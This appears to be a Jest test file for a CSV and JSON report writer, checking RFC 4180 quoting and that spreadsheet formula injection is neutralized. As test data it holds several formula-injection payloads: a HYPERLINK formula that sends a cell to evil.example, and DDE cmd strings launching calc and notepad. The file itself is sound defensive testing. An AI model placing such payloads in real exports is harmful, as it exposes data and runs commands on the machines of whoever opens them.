import { parse } from 'csv-parse/sync';
import { CsvWriter, csvField, csvRecord } from '../../src/reports/csv';
import { ReportBuilder, assertReportFormat } from '../../src/reports/format';

// RFC 4180: header row, CRLF after every record, quotes exactly around fields holding a comma,
// a quote, CR or LF, with inner quotes doubled. Checked by hand and by an independent parser.

describe('csvField quotes exactly the fields that need it', () => {
  test.each<[string, Parameters<typeof csvField>[0], string]>([
    ['plain text as is', 'plain', 'plain'],
    ['a comma quoted', 'a,b', '"a,b"'],
    ['a quote doubled and quoted', 'say "hi"', '"say ""hi"""'],
    ['a lone quote', '"', '""""'],
    ['LF quoted', 'line1\nline2', '"line1\nline2"'],
    ['CR quoted', 'a\rb', '"a\rb"'],
    ['CRLF quoted', 'a\r\nb', '"a\r\nb"'],
    ['leading and trailing spaces kept unquoted', '  x  ', '  x  '],
    ['a semicolon unquoted', 'a;b', 'a;b'],
    ['null empty', null, ''],
    ['undefined empty', undefined, ''],
    ['empty string empty', '', ''],
    ['a number', 42.5, '42.5'],
    ['zero', 0, '0'],
    ['a boolean', false, 'false'],
    ['a date in ISO 8601 UTC', new Date('2026-03-04T05:06:07.089Z'), '2026-03-04T05:06:07.089Z'],
    ['unicode unquoted', 'Zürich…', 'Zürich…'],
  ])('%s', (_label, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('text a spreadsheet would run as a formula is neutralized (OWASP): a leading quote, always quoted', () => {
  test.each<[string, string, string]>([
    ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+', "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(1,2)', `"'@SUM(1,2)"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['CR', '\r=1+1', `"'\r=1+1"`],
    ['LF', '\n=1+1', `"'\n=1+1"`],
    ['leading spaces', '   =1+1', `"'   =1+1"`],
    ['full-width equals', '\uff1d1+1', `"'\uff1d1+1"`],
    ['DDE', "=cmd|' /C notepad'!A1", `"'=cmd|' /C notepad'!A1"`],
  ])('starting with %s', (_label, value, expected) => {
    expect(csvField(value)).toBe(expected);
    // An RFC 4180 parser reads the neutralized text back: the original behind one quote.
    expect(parse(`${expected}\r\n`, { relax_quotes: false })[0][0]).toBe(`'${value}`);
  });

  test.each<[string, Parameters<typeof csvField>[0], string]>([
    ['a negative number stays a number', -5, '-5'],
    ['a formula character inside text is left alone', 'a=b+c', 'a=b+c'],
    ['an e-mail address is left alone', 'ops@example.com', 'ops@example.com'],
  ])('%s', (_label, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  test('every report cell goes through it, structured values included', () => {
    const report = new ReportBuilder('CSV', ['name', 'details'] as const);
    report.add({ name: '=1+2', details: { note: '=3' } });
    expect(report.finish().content).toBe(`name,details\r\n"'=1+2","{""note"":""=3""}"\r\n`);
  });
});

test('a record ends in CRLF and joins fields with commas', () => {
  expect(csvRecord(['a', 'b,c', null, 3])).toBe('a,"b,c",,3\r\n');
});

test('a document is the header row then one record per row, each ending in CRLF', () => {
  const w = new CsvWriter(['id', 'name', 'count'] as const);
  w.add({ id: 'k1', name: 'first', count: 1 });
  w.add({ id: 'k2', name: 'with, comma', count: 2 });
  expect(w.toString()).toBe('id,name,count\r\nk1,first,1\r\nk2,"with, comma",2\r\n');
});

test('a missing property is an empty field in its own column, not a shifted row', () => {
  const w = new CsvWriter(['a', 'b', 'c'] as const);
  w.add({ a: 'x', c: 'z' });
  expect(w.toString()).toBe('a,b,c\r\nx,,z\r\n');
});

test('a writer without columns is refused', () => {
  expect(() => new CsvWriter([])).toThrow('at least one column');
});

test('awkward values survive a round trip through an independent RFC 4180 parser', () => {
  const values = ['plain', 'a,b', 'quote " inside', '""', 'multi\nline', 'cr\ronly', 'crlf\r\nend', ' spaced ', '', '=SUM(A1)', 'tab\there', 'ünïcødé ✓'];
  const w = new CsvWriter(['i', 'value'] as const);
  values.forEach((v, i) => w.add({ i, value: v }));
  const parsed: string[][] = parse(w.toString(), { record_delimiter: '\r\n', relax_quotes: false });
  expect(parsed[0]).toEqual(['i', 'value']);
  // Formula-like text comes back behind the quote that neutralizes it; everything else exactly.
  expect(parsed.slice(1)).toEqual(values.map((v, i) => [String(i), v.startsWith('=') ? `'${v}` : v]));
});

describe('ReportBuilder', () => {
  const columns = ['id', 'when', 'details'] as const;
  const rows = [
    { id: 'a', when: new Date('2026-01-01T00:00:00Z'), details: { code: 'X', n: 1 } },
    { id: 'b,"c"', when: null, details: null },
  ];

  test('JSON lists the rows with exactly the columns, dates as ISO strings', () => {
    const b = new ReportBuilder('JSON', columns);
    rows.forEach((r) => b.add(r));
    const report = b.finish({ report: 'test' });
    expect(report.rowCount).toBe(2);
    const doc = JSON.parse(report.content);
    expect(doc).toMatchObject({ report: 'test', columns: ['id', 'when', 'details'] });
    expect(doc.rows).toEqual([
      { id: 'a', when: '2026-01-01T00:00:00.000Z', details: { code: 'X', n: 1 } },
      { id: 'b,"c"', when: null, details: null },
    ]);
  });

  test('CSV lists the same rows, structured values as JSON text', () => {
    const b = new ReportBuilder('CSV', columns);
    rows.forEach((r) => b.add(r));
    const report = b.finish({ report: 'test' });
    expect(report.format).toBe('CSV');
    const parsed: string[][] = parse(report.content);
    expect(parsed).toEqual([
      ['id', 'when', 'details'],
      ['a', '2026-01-01T00:00:00.000Z', '{"code":"X","n":1}'],
      ['b,"c"', '', ''],
    ]);
  });

  test('an unknown format is BAD_USER_INPUT naming format', () => {
    expect(() => assertReportFormat('XML')).toThrow(expect.objectContaining({ code: 'BAD_USER_INPUT', field: 'format' }));
  });
});
